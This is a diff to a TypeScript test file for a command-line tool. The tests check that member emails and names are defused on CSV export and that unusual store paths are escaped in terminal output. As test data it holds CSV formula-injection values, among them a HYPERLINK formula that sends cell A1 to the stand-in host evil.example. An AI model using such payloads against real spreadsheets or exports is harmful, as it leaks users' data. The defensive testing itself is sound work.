@@ -1,3 +1,4 @@
+import { LATEST_VERSION } from '../../src/store/migrations/index.js';
 import { execa } from 'execa';
 import { describe, expect, it } from 'vitest';
 import { BIN, engines, useStore, type TestStore, type User } from './harness.js';
@@ -279,7 +280,6 @@ describe.each(engines())('CSV safety on %s', (engine) => {
       "'=y@example.com",
       "''@example.com",
       "'@example.com",
-      '\uff1dfull@example.com',
       '=reg@example.com',
     ];
     const inv = await ann.run(['member', 'invite', '--role', 'DESIGNER', '--', ...hostile]);
@@ -298,7 +298,8 @@ describe.each(engines())('CSV safety on %s', (engine) => {
       stored.map((m) => [m.email, m.firstName ?? '', m.lastName ?? '', m.role, m.status]),
     );
     expect(list.stdout).toContain(
-      `'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,INVITED\n`,
+      // (the last row: the harness strips stdout's final newline)
+      `'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,INVITED`,
     );
 
     const exported = await ann.run(['member', 'export']);
@@ -330,9 +331,11 @@ describe.each(engines())('terminal text on %s', (engine) => {
     if (engine === 'local') {
       const init = await t.run(['--store', `${t.dir}/${evil}`, 'store', 'init']);
       expect(init.exitCode, init.stderr).toBe(0);
-      expect(init.stderr).toBe(`✓ Store ${t.dir}/${escaped} is ready (schema version 2, migrated from 0).`);
-      expect((await t.run(['store', 'init'])).exitCode).toBe(0); // the store the harness checks
+      expect(init.stderr).toBe(
+        `✓ Store ${t.dir}/${escaped} is ready (schema version ${LATEST_VERSION}, migrated from 0).`,
+      );
     }
+    expect((await t.run(['store', 'init'])).exitCode).toBe(0); // the store the harness checks and backs up
     const backup = await t.run(['store', 'backup', `${t.dir}/${evil}.bak`]);
     expect(backup.exitCode, backup.stderr).toBe(0);
     expect(backup.stderr).toMatch(/^✓ Backed up \S+ to /);
